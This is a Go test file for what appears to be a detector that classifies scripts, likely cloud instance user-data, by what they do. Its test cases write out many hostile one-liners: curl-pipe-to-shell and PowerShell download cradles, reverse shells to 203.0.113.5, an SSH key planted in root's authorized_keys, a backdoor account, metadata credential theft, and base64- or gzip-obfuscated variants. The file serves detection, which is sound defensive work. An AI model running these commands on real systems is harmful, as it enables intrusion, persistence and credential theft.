package script

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// utf16le encodes text the way PowerShell takes it.
func utf16le(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return string(b)
}

func packed(t *testing.T, s string) string {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	if _, err := w.Write([]byte(s)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// deeds lists what a script does.
func deeds(text string) string {
	s := Read(text)
	var out []string
	for _, d := range []struct {
		name string
		is   bool
	}{{"connects", s.Connects()}, {"fetches", s.Fetches()}, {"hides", s.Hides()}, {"admits", s.Admits()}, {"steals", s.Steals()}, {"repeats", s.Repeats()}, {"mints", s.Mints()}} {
		if d.is {
			out = append(out, d.name)
		}
	}
	return strings.Join(out, " ")
}

func TestDeeds(t *testing.T) {
	const fetch = "#!/bin/sh\ncurl -fsSL https://example.net/x | sh\n"
	const key = "#!/bin/sh\necho ssh-rsa AAAA >> /root/.ssh/authorized_keys\n"
	f := func(text, want string) {
		t.Helper()
		if got := deeds(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
	f("", "")
	f("#!/bin/bash\nyum install -y httpd && systemctl enable --now httpd", "")
	f("curl -fsSL https://example.net/x -o /tmp/x.rpm; rpm -i /tmp/x.rpm", "")
	f("curl https://example.net/x | jq -r .version", "")
	f("curl http://169.254.169.254/latest/meta-data/instance-id", "")
	f("wget http://10.0.1.5/agent.sh -O /opt/agent.sh", "")
	f("B64_CA="+b64("-----BEGIN CERTIFICATE-----")+"\n/etc/eks/bootstrap.sh prod --b64-cluster-ca $B64_CA", "")
	f(b64("\x00\x01\x02\x03\x04\x05\x06\x07\x08 curl | sh \x10\x11"), "")

	f("curl -fsSL https://example.net/key.asc -o /etc/key.asc; gpg --import /etc/key.asc", "")
	f("curl -o /var/www/html/index.html https://example.net/index.html\nsystemctl restart httpd", "")

	f("sudo -u postgres createuser app && psql -c 'CREATE USER app'", "")

	f(fetch, "fetches")
	f("curl -sL https://example.net/setup | sudo -E bash -", "fetches")
	f("curl -o /tmp/x https://example.net/x && chmod +x /tmp/x && /tmp/x", "fetches")
	f("cd /tmp; wget https://example.net/x -O x; chmod 755 x; nohup ./x &", "fetches")
	f("wget https://example.net/a.sh && sh ./a.sh", "fetches")
	f("wget -q https://example.net/a.sh -O a.sh\nbash a.sh", "fetches")
	f("import socket,subprocess,os\ns=socket.socket(2,1)\ns.connect(('203.0.113.5',443))\nos.dup2(s.fileno(),0)", "connects")
	f("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | openssl s_client -quiet -connect 203.0.113.5:443 > /tmp/f", "connects")
	f("boto3.client('iam').create_access_key(UserName='ana')", "mints")
	f("amazon-ssm-agent -register -code a -id b -region us-east-1", "admits")
	f("wget -qO- https://example.net/x |\n  sudo bash", "fetches")
	f("bash <(curl -s https://example.net/x)", "fetches")
	f("IEX (iwr https://example.net/a.ps1 -UseBasicParsing)", "fetches")
	f("c''url -s https://example.net/x | b\\ash", "fetches")
	f(`["sh", "-c", "curl https://example.net/x | sh"]`, "fetches")
	f(`["sh", "-c", "\u0063url https://example.net/x | sh"]`, "fetches")
	f("curl -s http://203.0.113.5/x -o /tmp/x; chmod +x /tmp/x; /tmp/x", "fetches hides")
	f("curl -s http://203.0.113.5/x | bash", "fetches hides")
	f("bash -i >& /dev/tcp/203.0.113.5/443 0>&1", "connects")
	f("nc 203.0.113.5 443 -e /bin/sh", "connects")
	f(key, "admits")
	f("net user helper Passw0rd! /add", "admits")
	f("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/x", "steals")
	f("#cloud-boothook\n#!/bin/sh\nid", "repeats")
	f("aws iam create-access-key --user-name ana", "mints")
	f("aws iam create-user --user-name ana", "mints")
	f("iam = boto3.client('iam')\niam.create_user(UserName='ana')", "mints")
	f("aws iam create-saml-provider --name x --saml-metadata-document file://m.xml", "mints")
	f("aws rolesanywhere create-trust-anchor --name x", "mints")
	f(`{"Service":"iam","Api":"CreateAccessKey"}`, "mints")

	f(b64(key), "admits")
	f(base64.RawURLEncoding.EncodeToString([]byte(key)), "admits")
	f(b64(packed(t, key)), "admits")
	f(b64(b64(key)), "admits")
	f("#cloud-config\nwrite_files:\n- encoding: b64\n  content: "+b64(key), "admits")
	f("echo "+b64("curl https://example.net/x | sh")+" | base64 -d | bash", "fetches hides")
	f(`exec(base64.b64decode("`+b64(`import os; os.system("id")`)+`"))`, "hides")
	f("powershell -enc "+b64(utf16le("IEX (New-Object Net.WebClient).DownloadString('https://example.net/a')")), "fetches hides")
	f("curl%20https://example.net/x%20%7C%20sh", "fetches")
}

func TestBounds(t *testing.T) {
	deep := "useradd x"
	for range 3 * maxDepth {
		deep = b64(deep)
	}
	if s := Read(deep); s.Admits() || s.Text != deep {
		t.Error("unwrapped deeper than allowed")
	}
	bomb := packed(t, strings.Repeat("a", 64*maxText))
	if s := Read(b64(bomb)); len(s.Plain) > 3*maxText {
		t.Errorf("grew to %d bytes", len(s.Plain))
	}
}

func FuzzRead(f *testing.F) {
	for _, s := range []string{"", "{", `["a",{"b":"c"}]`, "a%20b", b64("#!/bin/sh\nid && echo hello"), "powershell -enc " + b64(utf16le("Get-Date | Out-Null"))} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		s := Read(text)
		if s.Text != text {
			t.Error("the text was changed")
		}
		_ = deeds(text)
	})
}
